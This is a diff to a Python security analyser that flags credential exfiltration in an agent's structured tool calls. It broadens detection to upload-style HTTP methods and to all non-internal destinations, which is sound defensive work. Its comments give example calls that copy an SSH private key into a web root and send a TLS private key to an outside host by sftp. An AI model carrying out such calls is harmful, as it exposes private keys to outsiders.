@@ -1039,7 +1039,11 @@ _PLACING_WORDS: Final = frozenset({"copy", "cp", "move", "mv", "publish", "sync"
 def _published(c: Call, a: Action, an: Analyser, words: list[str]) -> None:
     """A copy given as fields (`copy_file {"from": "~/.ssh/id_rsa", "to": "/var/www/html/k"}`):
     a credential put where others read it is published, as if uploaded."""
-    if not c.structured or (_PLACING_WORDS.isdisjoint(words) and _PLACING_WORDS.isdisjoint(c.keys)):
+    if not c.structured or (
+        _PLACING_WORDS.isdisjoint(words)
+        and _PLACING_WORDS.isdisjoint(c.keys)
+        and c.http_method not in ("PUT", "POST", "PATCH")  # a request that carries the file
+    ):
         return
     t = an.table
     values = [
@@ -1049,7 +1053,8 @@ def _published(c: Call, a: Action, an: Analyser, words: list[str]) -> None:
     if secret is None:
         return
     for url in c.urls[:8]:  # `sftp_put {"host": "203.0.113.7", "local": "/etc/ssl/private/k"}`
-        if an.dest_class(url) in ("unknown", "drop"):
+        # (a well-known service is outside the organisation too: a bucket's storage host)
+        if an.dest_class(url) != "internal":
             what = describe(f"sends {secret} to {url}", "", False, f"{a.text} {secret} {url}")
             an.out.add(Effect("exfiltrate", "", what))
             return
